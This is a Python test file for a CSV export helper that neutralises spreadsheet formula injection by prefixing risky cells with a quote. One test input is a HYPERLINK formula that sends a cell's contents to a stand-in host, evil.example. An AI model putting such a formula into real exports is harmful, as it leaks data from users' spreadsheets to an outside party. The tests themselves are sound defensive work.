import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from velocify_sms.csv_export import csv_rows_stream, csv_safe_cell, csv_streaming_response


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(value):
    assert csv_safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Ana Garcia", "Ana Garcia"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "Yes"),
        (False, "No"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (datetime(2024, 5, 1, 12, 0, tzinfo=UTC), "2024-05-01 12:00"),
    ],
)
def test_plain_values_are_written_as_they_are(value, expected):
    assert csv_safe_cell(value) == expected


def test_times_are_written_in_the_site_time_zone_as_the_pages_show_them(settings):
    settings.TIME_ZONE = "America/New_York"
    assert csv_safe_cell(datetime(2024, 5, 1, 12, 0, tzinfo=UTC)) == "2024-05-01 08:00"
    assert csv_safe_cell(date(2024, 5, 1)) == "2024-05-01"


def test_an_e164_number_is_written_as_it_is_for_programs():
    # phone_number columns: a + and digits carry no formula; a program needs the number as stored.
    assert csv_safe_cell("+14155552671") == "+14155552671"
    assert csv_safe_cell("+14155552671 +442079460958") == "+14155552671 +442079460958"


@pytest.mark.parametrize("text", ["+1+1", "+14155552671;=1", "+cmd", "+0123456", "+1 "])
def test_text_that_only_starts_like_a_number_is_still_neutralised(text):
    assert csv_safe_cell(text) == "'" + text


def test_stream_yields_one_line_per_row_with_every_cell_neutralised():
    lines = list(csv_rows_stream(header=["name", "note"], rows=[["=1+1", "ok"], ["Bo", "@x"]]))
    assert len(lines) == 3
    parsed = list(csv.reader(io.StringIO("".join(lines))))
    assert parsed == [["name", "note"], ["'=1+1", "ok"], ["Bo", "'@x"]]


def test_streaming_response_is_an_attachment_and_is_lazy():
    consumed = []

    def rows():
        for i in range(3):
            consumed.append(i)
            yield [i, f"row {i}"]

    response = csv_streaming_response(filename="leads.csv", header=["id", "name"], rows=rows())
    assert response.streaming
    assert consumed == []
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="leads.csv"'
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines() == ["id,name", "0,row 0", "1,row 1", "2,row 2"]
